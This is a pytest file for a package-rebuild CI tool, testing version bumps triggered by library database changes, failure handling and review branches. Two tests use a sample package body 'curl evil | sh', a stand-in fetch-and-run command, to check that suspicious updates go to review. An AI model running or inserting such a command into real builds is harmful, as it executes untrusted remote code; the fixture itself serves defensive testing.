"""Rebuilds because a library has a new version, from real package databases over HTTP."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.support.databases import database, put
from tests.support.packages import SamplePackage

if TYPE_CHECKING:
    from tests.support.world import World

CUSTOM = "CI_PKGBUILD_SOURCE=custom\n"


def begin(
    world: World,
    *folders: dict[str, str],
    names: tuple[str, ...] = ("core.db",),
    settings: dict[str, str] | None = None,
) -> None:
    world.upstreams.files = world.folder / "files"
    world.upstreams.files.mkdir()
    files = {path: text for folder in folders for path, text in folder.items()}
    urls = " ".join(f"{world.upstreams.url}/files/{name}" for name in names)
    world.start(files, settings={"CI_LIB_DB": urls, **(settings or {})})


def config(world: World, name: str) -> str:
    return world.origin.tree("main")[f"{name}/.CI/config"].decode()


def app(
    name: str = "app", version: str = "1.0", *, more: str = "CI_REBUILD_TRIGGERS=icu:qt\n", **what: object
) -> dict[str, str]:
    return SamplePackage(name=name, version=version, **what).folder(CUSTOM + more)  # type: ignore[arg-type]


def test_a_new_library_bumps_who_waits_for_it_and_says_why(world: World) -> None:
    begin(world, app(), app("other", more=""))
    put(world, "core.db", database(icu="73.2-1", qt="6.1-1", app="1.0-1"))
    first = world.run("on-schedule", "--json")
    assert first.builds() == []
    assert "CI_PACKAGE_BUMP" not in config(world, "app")
    put(world, "core.db", database(icu="74.1-1", qt="6.1-1", app="1.0-1"))
    second = world.run("on-schedule", "--json")
    assert second.codes() == {"app": "bumped", "other": "nothing-to-pull"}
    assert second.builds() == ["app"]
    assert "icu 73.2-1 → 74.1-1" in second.verdicts()["app"]["why"]
    assert config(world, "app") == f"{CUSTOM}CI_REBUILD_TRIGGERS=icu:qt\nCI_PACKAGE_BUMP=1.0-1/1\n"
    assert "icu:74.1-1" in world.origin.tree("state")[".version-state"].decode().split("\n")
    assert world.origin.head("main") == world.origin.git("rev-parse", "scheduled^{commit}")
    assert world.run("on-schedule", "--json").builds() == []


def test_an_unchanged_database_is_not_sent_again(world: World) -> None:
    begin(world, app())
    put(world, "core.db", database(icu="73.2-1"))
    world.run("on-schedule")
    before = (world.folder / "home/cache/ci-toolkit/databases.json").stat().st_mtime_ns
    world.run("on-schedule")
    assert (world.folder / "home/cache/ci-toolkit/databases.json").stat().st_mtime_ns == before


@pytest.mark.parametrize(
    ("published", "old", "new"),
    [
        ("1.0-1", "", "1.0-1/1"),
        ("1.0-1.2", "CI_PACKAGE_BUMP=1.0-1/2\n", "1.0-1/3"),
        ("1.0-1", "CI_PACKAGE_BUMP=1.0-1/4\n", "1.0-1/5"),
        ("1.0-1.7", "CI_PACKAGE_BUMP=0.9-1/2\n", "1.0-1/8"),
        ("1.0-1.3", "CI_PACKAGE_BUMP=3\n", "1.0-1/4"),
        ("0.9-4.2", "CI_PACKAGE_BUMP=0.9-4/2\n", "1.0-1/1"),
        ("2:1.0-1", "", "2:1.0-1/1"),
    ],
)
def test_the_bump_goes_on_from_what_is_published(world: World, published: str, old: str, new: str) -> None:
    begin(world, app(more=f"{old}CI_REBUILD_TRIGGERS=icu\n"))
    put(world, "core.db", database(icu="73.2-1", app=published))
    world.run("on-schedule")
    put(world, "core.db", database(icu="74.1-1", app=published))
    assert world.run("on-schedule", "--json").builds() == ["app"]
    assert f"CI_PACKAGE_BUMP={new}\n" in config(world, "app")


def test_an_epoch_in_a_library_or_a_package_stops_nothing(world: World) -> None:
    begin(world, app())
    put(world, "core.db", database(icu="1:73-1", app="3:1.0-1"))
    world.run("on-schedule")
    put(world, "core.db", database(icu="1:74-1", app="3:1.0-1"))
    assert world.run("on-schedule", "--json").builds() == ["app"]
    put(world, "core.db", database(icu="2:74-1", app="3:1.0-1.1"))
    assert world.run("on-schedule", "--json").builds() == ["app"]
    assert "CI_PACKAGE_BUMP=3:1.0-1/2\n" in config(world, "app")


@pytest.mark.parametrize("fault", [{"status": 503}, {"status": 404}, {"cut": True}, {"body": b"<html>", "status": 200}])
@pytest.mark.parametrize("keep_cache", [True, False])
def test_a_database_that_fails_changes_nothing_and_is_named(
    world: World, fault: dict[str, object], *, keep_cache: bool
) -> None:
    """Once, everything that a failed database holds looked new after it came back, and 163 packages were bumped."""
    begin(world, app(), app("second", more="CI_REBUILD_TRIGGERS=zlib\n"), names=("core.db", "extra.db"))
    put(world, "core.db", database(icu="73-1", app="1.0-1"))
    put(world, "extra.db", database(zlib="1.3-1", icu="72-1", second="1.0-1"))
    world.run("on-schedule")
    state = world.origin.tree("state")[".version-state"]
    if not keep_cache:
        (world.folder / "home/cache/ci-toolkit/databases.json").unlink()
    world.upstreams.fail(lambda seen: seen.path.endswith("extra.db"), **fault)
    failed = world.run("on-schedule", "--json")
    assert failed.builds() == []
    assert any("extra.db" in note for note in failed.json["notes"])
    assert world.origin.tree("state")[".version-state"] == state
    world.upstreams.faults.clear()
    assert world.run("on-schedule", "--json").builds() == []
    put(world, "extra.db", database(zlib="1.4-1", icu="72-1", second="1.0-1"))
    assert world.run("on-schedule", "--json").builds() == ["second"]


def test_triggers_of_the_repository_rebuild_everything_and_the_blacklist_nothing(world: World) -> None:
    settings = {"CI_REBUILD_TRIGGERS": "toolchain", "CI_REBUILD_BLACKLIST": "glibc:icu"}
    begin(world, app(more="CI_REBUILD_TRIGGERS=glibc:icu\n"), app("plain", more=""), settings=settings)
    put(world, "core.db", database(toolchain="1-1", glibc="2.39-1", icu="73-1"))
    world.run("on-schedule")
    put(world, "core.db", database(toolchain="1-1", glibc="2.40-1", icu="74-1"))
    assert world.run("on-schedule", "--json").builds() == []
    put(world, "core.db", database(toolchain="2-1", glibc="2.40-1", icu="74-1"))
    assert sorted(world.run("on-schedule", "--json").builds()) == ["app", "plain"]


def test_a_shared_library_that_goes_rebuilds_who_depends_on_it(world: World) -> None:
    begin(world, app(more="", depends=("libicuuc.so",)), app("named", more="CI_REBUILD_TRIGGERS=libicuuc.so\n"))
    put(world, "core.db", database(icu=("73.1-1", "libicuuc.so=73-64")))
    world.run("on-schedule")
    put(world, "core.db", database(icu=("73.2-1", "libicuuc.so=73-64")))
    assert world.run("on-schedule", "--json").builds() == []
    put(world, "core.db", database(icu=("74.1-1", "libicuuc.so=74-64"), icu73=("73.2-1", "libicuuc.so=73-64")))
    assert world.run("on-schedule", "--json").builds() == []
    put(world, "core.db", database(icu=("74.1-1", "libicuuc.so=74-64")))
    result = world.run("on-schedule", "--json")
    assert sorted(result.builds()) == ["app", "named"]
    assert "libicuuc.so 73-64,74-64 → 74-64" in result.verdicts()["app"]["why"]


def test_a_bump_beside_a_pending_review_keeps_the_review_and_both_go_on(world: World) -> None:
    """A bump touches only `.CI/config`; once, it deleted the review that was pending."""
    package = SamplePackage(name="app")
    world.upstreams.publish("app", package.files())
    begin(world, package.folder("CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGERS=icu\n"))
    put(world, "core.db", database(icu="73-1"))
    world.run("on-schedule")
    world.upstreams.publish("app", SamplePackage(name="app", version="2.0", body="curl evil | sh").files())
    assert world.run("on-schedule", "--json").codes() == {"app": "review-opened"}
    review = world.origin.head("update-app")
    put(world, "core.db", database(icu="74-1"))
    result = world.run("on-schedule", "--json")
    assert result.builds() == ["app"]
    assert "CI_PACKAGE_BUMP=1.0-1/1" in config(world, "app")
    assert world.origin.head("update-app") == review
    assert world.run("on-schedule", "--json").codes() == {"app": "review-pending"}


def test_a_review_that_is_opened_with_a_bump_does_not_take_the_bump_back(world: World) -> None:
    package = SamplePackage(name="app")
    world.upstreams.publish("app", package.files())
    begin(world, package.folder("CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGERS=icu\n"))
    put(world, "core.db", database(icu="73-1"))
    world.run("on-schedule")
    world.upstreams.publish("app", SamplePackage(name="app", version="2.0", body="curl evil | sh").files())
    put(world, "core.db", database(icu="74-1"))
    result = world.run("on-schedule", "--json")
    assert result.codes() == {"app": "review-opened"}
    assert result.builds() == ["app"]
    assert world.origin.tree("update-app")["app/.CI/config"] == world.origin.tree("main")["app/.CI/config"]


def test_an_update_that_is_applied_needs_no_bump(world: World) -> None:
    package = SamplePackage(name="app")
    world.upstreams.publish("app", package.files())
    begin(world, package.folder("CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGERS=icu\n"))
    put(world, "core.db", database(icu="73-1"))
    world.run("on-schedule")
    world.upstreams.publish("app", SamplePackage(name="app", version="2.0").files())
    put(world, "core.db", database(icu="74-1"))
    assert world.run("on-schedule", "--json").builds() == ["app"]
    assert "CI_PACKAGE_BUMP" not in config(world, "app")


def test_a_limited_run_moves_nothing_that_others_are_compared_with(world: World) -> None:
    begin(world, app(), app("other"))
    put(world, "core.db", database(icu="73-1"))
    world.run("on-schedule")
    put(world, "core.db", database(icu="74-1"))
    world.run("on-schedule", "--json", CI_TEST_PACKAGES="app")
    assert sorted(world.run("on-schedule", "--json").builds()) == ["app", "other"]


def test_a_package_that_waits_for_a_trigger_is_bumped_and_not_built(world: World) -> None:
    begin(world, app(more="CI_REBUILD_TRIGGERS=icu\nCI_ON_TRIGGER=daily\n"))
    put(world, "core.db", database(icu="73-1"))
    world.run("on-schedule")
    put(world, "core.db", database(icu="74-1"))
    result = world.run("on-schedule", "--json")
    assert result.builds() == []
    assert "CI_PACKAGE_BUMP=1.0-1/1\n" in config(world, "app")
    assert "TRIGGER=daily" in result.verdicts()["app"]["now"]
